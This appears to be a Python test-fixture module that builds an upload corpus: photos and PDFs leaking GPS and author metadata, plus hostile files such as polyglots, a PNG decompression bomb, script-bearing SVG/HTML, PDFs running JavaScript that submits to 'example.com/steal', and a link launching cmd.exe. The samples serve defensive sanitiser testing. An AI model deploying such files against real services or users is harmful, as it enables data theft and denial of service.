"""The upload corpus, built in code: honest files that give too much away, and hostile ones.

Every builder returns the bytes of one file. Nothing is read from disk, so each file's
make-up is visible here: what it hides, and where.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache

import pikepdf
from PIL import ExifTags, Image, PngImagePlugin

GPS_PHONE = ("HUAWEI", "P40 Pro")
#: Where the GPS-tagged photo says it was taken: Tiananmen Square, in degrees, minutes, seconds.
GPS_LATITUDE = (39.0, 54.0, 27.0)
GPS_LONGITUDE = (116.0, 23.0, 50.0)
JPEG_COMMENT = b"IMG taken at Zhang San's flat, Room 1203"
PDF_AUTHOR = "Zhang San"
PDF_CREATOR = "Microsoft Word - report-by-zhangsan.docx"
SCRIPT = "app.alert('hello'); this.submitForm('http://example.com/steal');"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def picture(width: int = 320, height: int = 240) -> Image.Image:
    """Return a picture with a gradient and a block, so that pixels can be compared."""
    image = Image.new("RGB", (width, height))
    image.putdata(
        [(x * 255 // width, y * 255 // height, 128) for y in range(height) for x in range(width)]
    )
    image.paste((250, 250, 20), (width // 4, height // 4, width // 2, height // 2))
    return image


def plain_jpeg(width: int = 320, height: int = 240) -> bytes:
    """Return a JPEG with nothing but its pixels."""
    out = io.BytesIO()
    picture(width, height).save(out, "JPEG", quality=95)
    return out.getvalue()


def gps_jpeg() -> bytes:
    """Return a phone photo's JPEG: EXIF with the phone and a GPS position, and a comment."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make], exif[ExifTags.Base.Model] = GPS_PHONE
    exif[ExifTags.Base.DateTime] = "2026:03:15 09:41:07"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef], gps[ExifTags.GPS.GPSLatitude] = "N", GPS_LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef], gps[ExifTags.GPS.GPSLongitude] = "E", GPS_LONGITUDE
    out = io.BytesIO()
    picture().save(out, "JPEG", quality=95, exif=exif, comment=JPEG_COMMENT)
    return out.getvalue()


def rotated_jpeg() -> bytes:
    """Return a 320x240 JPEG whose EXIF says to show it turned a quarter (Orientation 6)."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    out = io.BytesIO()
    picture().save(out, "JPEG", quality=95, exif=exif)
    return out.getvalue()


def png_with_text() -> bytes:
    """Return a PNG carrying its author and a comment in tEXt, iTXt and zTXt chunks."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Zhang San")
    info.add_itxt("Comment", "拍摄于张三家中", lang="zh", tkey="注释")
    info.add_text("Software", "WeChat screenshot", zip=True)
    out = io.BytesIO()
    picture().save(out, "PNG", pnginfo=info)
    return out.getvalue()


def zip_archive() -> bytes:
    """Return a small ZIP archive holding a text file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("secret.txt", "the payload")
    return out.getvalue()


def jpeg_with_zip() -> bytes:
    """Return a JPEG/ZIP polyglot: a valid JPEG with a ZIP archive appended."""
    return plain_jpeg() + zip_archive()


def jpeg_with_html() -> bytes:
    """Return a JPEG/HTML polyglot: a valid JPEG with a script page appended."""
    return plain_jpeg() + HTML


def html_behind_jpeg_magic() -> bytes:
    """Return a page that starts with the JPEG signature but holds no picture."""
    return b"\xff\xd8\xff\xe0" + HTML


def html_around_jpeg() -> bytes:
    """Return a page with a JPEG inside it, which browsers would sniff as HTML."""
    return HTML + plain_jpeg()


def gif() -> bytes:
    """Return a small GIF picture."""
    out = io.BytesIO()
    picture(40, 30).save(out, "GIF")
    return out.getvalue()


def svg() -> bytes:
    """Return an SVG picture with a script in it."""
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(1)</script><rect width='10' height='10'/></svg>"
    )


@cache
def png_bomb() -> bytes:
    """Return a decompression bomb: a 20000x20000 one-colour PNG of some 50 KB."""
    width = height = 20_000
    row = b"\x00" + b"\x00" * (width // 8)  # filter byte, then 1-bit pixels
    packer = zlib.compressobj(9)
    compressed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", compressed)
        + chunk(b"IEND", b"")
    )


def too_many_pixels_jpeg() -> bytes:
    """Return a JPEG of 8000x6000 pixels (48 megapixels): small on disk, too large to decode."""
    out = io.BytesIO()
    Image.new("L", (8000, 6000), 200).save(out, "JPEG", quality=10)
    return out.getvalue()


def _pdf(build=None, **save) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.pages[0].Contents = pdf.make_stream(b"BT /F1 12 Tf 20 100 Td (Evidence) Tj ET")
    if build is not None:
        build(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def plain_pdf() -> bytes:
    """Return a one-page PDF with nothing hidden in it."""
    return _pdf()


def pdf_with_metadata() -> bytes:
    """Return a PDF whose information dictionary and XMP name its author and program."""

    def build(pdf: pikepdf.Pdf) -> None:
        pdf.docinfo["/Author"] = PDF_AUTHOR
        pdf.docinfo["/Creator"] = PDF_CREATOR
        pdf.docinfo["/Producer"] = "Microsoft: Print To PDF"
        with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
            meta["dc:creator"] = [PDF_AUTHOR]
            meta["xmp:CreatorTool"] = PDF_CREATOR
        pdf.pages[0].PieceInfo = pikepdf.Dictionary(Word=pikepdf.Dictionary(User=PDF_AUTHOR))

    return _pdf(build)


def pdf_with_photo() -> bytes:
    """Return a scan-app PDF: the GPS-tagged photo embedded as it is, as a DCT image."""

    def build(pdf: pikepdf.Pdf) -> None:
        image = pdf.make_stream(
            gps_jpeg(),
            Type=pikepdf.Name.XObject,
            Subtype=pikepdf.Name.Image,
            Width=320,
            Height=240,
            ColorSpace=pikepdf.Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=pikepdf.Name.DCTDecode,
        )
        page = pdf.pages[0]
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
        page.Contents = pdf.make_stream(b"q 160 0 0 120 20 40 cm /Im0 Do Q")

    return _pdf(build)


def pdf_with_open_action_script() -> bytes:
    """Return a PDF that runs JavaScript as it opens."""

    def build(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=SCRIPT)

    return _pdf(build)


def pdf_with_script_name_tree() -> bytes:
    """Return a PDF with document-level JavaScript in its /Names tree, kept in a stream."""

    def build(pdf: pikepdf.Pdf) -> None:
        action = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pdf.make_stream(SCRIPT.encode()))
        )
        tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), action]))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pdf.make_indirect(tree))

    return _pdf(build, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_embedded_file() -> bytes:
    """Return a PDF carrying a ZIP archive as an embedded file."""

    def build(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["payload.zip"] = pikepdf.AttachedFileSpec(pdf, zip_archive())

    return _pdf(build)


def pdf_with_launch_link() -> bytes:
    """Return a PDF whose link starts a program."""

    def build(pdf: pikepdf.Pdf) -> None:
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 100, 100]),
            A=launch,
        )
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([link]))

    return _pdf(build)


def encrypted_pdf(user_password: str) -> bytes:
    """Return a PDF encrypted with a user password (an empty one still encrypts it)."""
    return _pdf(encryption=pikepdf.Encryption(owner="owner", user=user_password))


def jpeg_with_pdf_appended() -> bytes:
    """Return a JPEG/PDF polyglot: the picture, then a PDF that runs a script."""
    return plain_jpeg() + pdf_with_open_action_script()
